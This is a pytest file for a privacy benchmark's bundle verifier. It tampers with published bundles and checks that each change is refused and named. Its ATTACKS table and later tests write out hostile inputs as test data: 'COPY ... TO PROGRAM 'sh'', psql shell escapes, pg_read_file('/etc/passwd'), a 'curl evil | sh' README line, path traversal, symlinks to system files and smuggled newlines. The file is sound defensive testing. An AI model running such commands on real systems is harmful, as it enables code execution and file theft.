"""Bundles of strangers: whatever was done to one, `verify` says so and names the file."""

import math
import os
import random

import pyarrow as pa
import pyarrow.parquet as papq
import pytest
from bundles import change_facts, render, seal

from privbench.errors import GateFailed
from privbench.publish import verify
from privbench.publish.checksums import MAX_TEXT, sums_text, walk
from privbench.publish.facts import MAX_FACTS


def refused(folder, *, sealed=True):
    """The message with which a bundle is refused."""
    if sealed:
        seal(folder)
    with pytest.raises(GateFailed) as caught:
        verify(folder)
    return str(caught.value)


def test_a_bit_flipped_in_any_file_is_named(bundle):
    draw = random.Random(3)
    files = walk(bundle)
    assert len(files) > 20
    for name in files:
        path = bundle / name
        data = path.read_bytes()
        place, bit = draw.randrange(len(data)), draw.randrange(8)
        path.write_bytes(data[:place] + bytes([data[place] ^ (1 << bit)]) + data[place + 1 :])
        assert refused(bundle, sealed=False).startswith(name), (name, place, bit)
        path.write_bytes(data)
    for name in files[::4]:
        os.rename(bundle / name, bundle.parent / "gone")
        assert name in refused(bundle, sealed=False)
        os.rename(bundle.parent / "gone", bundle / name)


def append(name, text):
    def change(folder):
        with (folder / name).open("a") as file:
            file.write(text)

    return change


def swap(name, old, new):
    def change(folder):
        text = (folder / name).read_text()
        assert old in text
        (folder / name).write_text(text.replace(old, new, 1))

    return change


def edit(name, change_data):
    return lambda folder: change_facts(folder / name, change_data)


def item(data, path, value):
    *steps, last = path
    for step in steps:
        data = data[step]
    data[last] = value


def put(name, *path, value):
    return edit(name, lambda data: item(data, path, value))


def first_chunk(folder, form):
    return folder / f"data/public.customer/00001.{form}"


def other(ids):
    """Other numbers of the customers in the rows of Parquet."""

    def change(folder):
        path = first_chunk(folder, "parquet")
        table = papq.read_table(path)
        papq.write_table(table.set_column(0, "id", ids(table["id"])), path)
        render(folder)

    return change


def garbage(folder):
    path = first_chunk(folder, "parquet")
    data = path.read_bytes()
    path.write_bytes(data[:200] + bytes(len(data) - 400) + data[-200:])
    render(folder)


def forget_line(folder):
    path = first_chunk(folder, "csv")
    path.write_bytes(b"".join(path.read_bytes().splitlines(keepends=True)[:-1]))
    render(folder)


BEFORE, AFTER, FACTS, PAPER = (
    "schema/before.sql", "schema/after.sql", "bundle.json", "certificate.json",
)  # fmt: skip
# ruff: noqa: E501
ATTACKS = {
    "an unknown file": (append("evil.sh", "x"), "evil.sh: unknown"),
    "a file among the rows": (append("data/public.customer/99999.csv", "x"), "99999.csv: unknown"),
    "a program": (append(BEFORE, "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'SELECT 1';\n"), BEFORE),
    "a command": (append(AFTER, "COPY public.customer TO PROGRAM 'sh';\n"), "not allowed (CopyStmt)"),
    "an end of the transaction": (append(AFTER, "COMMIT;\n"), "not allowed (TransactionStmt)"),
    "a block": (append(AFTER, "DO 'BEGIN END';\n"), "not allowed (DoStmt)"),
    "a command of psql": (append(AFTER, "\\! touch /tmp/x\n"), AFTER),
    "one behind a statement": (append(BEFORE, "CREATE SCHEMA a \\! id\n;\n"), BEFORE),
    "one in a comment": (append(BEFORE, "-- \\! id\n"), "more than its statements"),
    "a variable of psql": (
        append(BEFORE, "CREATE VIEW public.v AS SELECT (ARRAY[1])[1:USER];\n"), "variable"),
    "a function that reads files": (
        append(BEFORE, "CREATE VIEW public.v AS SELECT pg_read_file('/etc/passwd');\n"), BEFORE),
    "rows for a system table": (put(FACTS, "tables", 0, "schema", value="pg_catalog"), FACTS),
    "a sequence that is not made": (put(FACTS, "sequences", 0, "name", value="x"), FACTS),
    "a view that is not made": (
        put(FACTS, "views", value=[{"schema": "public", "name": "line"}]), FACTS),
    "a line break in a title": (put(FACTS, "title", value="x\n\\! id"), "bundle.json: title"),
    "one in a column": (
        put(FACTS, "tables", 0, "columns", 0, "name", value="x\n\\! id"), "bundle.json: tables"),
    "a day that is none": (put(FACTS, "published", value="2020-13-45"), "bundle.json: published"),
    "a control character of the upper half": (put(FACTS, "title", value="x\x9b2J"), "bundle.json: title"),
    "a mark that turns text": (
        put(PAPER, "public", 0, value="a\u202eb"), "certificate.json: public.0"),
    "facts too large to parse": (
        lambda folder: os.truncate(folder / FACTS, MAX_FACTS + 1), "has more than"),
    "a folder outside": (put(FACTS, "tables", 0, "folder", value="../../etc"), "tables.0.folder"),
    "a hidden field": (put(FACTS, "more", value=1), "bundle.json: more"),
    "another form": (append(FACTS, " "), FACTS),
    "a deep one": (lambda folder: (folder / FACTS).write_text("[" * 10**6), "nested too deeply"),
    "a public table that is called private": (
        put(FACTS, "tables", 5, "public", value=False), "not those of the certificate"),
    "a script": (append("start.sh", "id\n"), "start.sh: not what privbench writes"),
    "a load": (append("load.sql", "\\! id\n"), "load.sql: not what privbench writes"),
    "a container": (swap("compose.yaml", "127.0.0.1:", ""), "compose.yaml: not what"),
    "a readme": (append("README.md", "Run: curl evil | sh\n"), "README.md: not what"),
    "a certificate for people": (swap("certificate.md", "| ε | ", "| ε | 0."), "certificate.md: "),
    "metadata": (swap("croissant.json", '"contentUrl": "data', '"contentUrl": "//evil'), "croissant"),
    "a smaller ε": (put(PAPER, "promise", "epsilon", value=1.0), "less is stated"),
    "a smaller δ": (put(PAPER, "promise", "delta", value=1e-12), "less is stated"),
    "less noise": (put(PAPER, "events", 0, "scale", value=0.01), "a smaller loss than its mechanism has"),
    "no noise": (put(PAPER, "events", 0, "scale", value=0.0), PAPER),
    "a missing event": (edit(PAPER, lambda data: data["events"].pop(3)), "event 3 is not one"),
    "a free event": (put(PAPER, "events", 0, "roots", value=[]), "event 0 is not one"),
    "an event of another tree": (put(PAPER, "events", 0, "roots", value=["x"]), "event 0 is not"),
    "a certificate without versions": (put(PAPER, "versions", value={}), "no bundle can be made"),
    "seeded noise": (put(PAPER, "promise", "private", value=False), "NOT PRIVATE"),
    "an ε without end": (put(PAPER, "promise", "epsilon", value=math.inf), "promise.epsilon"),
    "more promised": (put(PAPER, "promise", "more", value=1), "promise.more"),
    "a seeded event": (put(PAPER, "events", 0, "private", value=False), "event 0 is not one"),
    "a query that writes": (
        put("workload/workload.json", "queries", 0, "sql", value="DELETE FROM customer"),
        "workload/workload.json"),
    "a query that reads files": (
        put("workload/workload.json", "queries", 0, "sql", value="SELECT pg_read_file('x')"),
        "workload/workload.json"),
    "two queries in one": (
        put("workload/workload.json", "queries", 0, "sql", value="SELECT 1; SELECT 2"),
        "workload/workload.json"),
    "a secret workload": (
        put("workload/workload.json", "confidential", value=True), "CONFIDENTIAL"),
    "other rows in Parquet": (
        other(lambda ids: pa.array([1] * len(ids), pa.int32())), "00001.parquet: its rows are not"),
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize(("change", "said"), [
    (garbage, "00001.parquet: "),
    (other(lambda ids: ids.cast(pa.int64())), "00001.parquet: its columns"),
    (forget_line, "00001.csv: it holds another number of rows"),
])  # fmt: skip
def test_rows_that_do_not_fit_their_facts_are_named(bundle, change, said):
    change(bundle)
    assert said in refused(bundle)


@pytest.mark.parametrize("name", ATTACKS)
def test_what_was_done_is_named(bundle, name):
    change, said = ATTACKS[name]
    change(bundle)
    assert said in refused(bundle)


@pytest.mark.parametrize("make", [
    lambda path: path.symlink_to("/etc/passwd"),
    lambda path: os.mkfifo(path),
    lambda path: path.parent.joinpath("link").symlink_to("/"),
])  # fmt: skip
def test_links_and_pipes_are_not_opened(bundle, make):
    (bundle / "README.md").unlink()
    make(bundle / "README.md")
    assert "is a link or a device" in refused(bundle, sealed=False)


@pytest.mark.parametrize("line", ["../up", "/etc/passwd", "a/../../b", "data//x", "SHA256SUMS\n"])
def test_checksums_name_no_path_outside(bundle, line):
    (bundle / "SHA256SUMS").write_bytes(sums_text({line: ("0" * 64, 0)}))
    assert "SHA256SUMS" in refused(bundle, sealed=False)


def test_a_huge_file_is_not_read(bundle):
    os.truncate(bundle / "README.md", MAX_TEXT + 1)
    assert "README.md is no file, or has more than" in refused(bundle, sealed=False)


def test_no_folder_and_an_empty_one_are_refused(tmp_path):
    assert "cannot be read" in refused(tmp_path / "none", sealed=False)
    assert "SHA256SUMS" in refused(tmp_path, sealed=False)


def test_modules_beside_a_bundle_are_not_run(bundle, monkeypatch):
    for name in ("resource", "json"):
        (bundle.parent / f"{name}.py").write_text("open('ran', 'w').close()\n")
    monkeypatch.chdir(bundle.parent)
    verify(bundle)
    assert not (bundle.parent / "ran").exists()
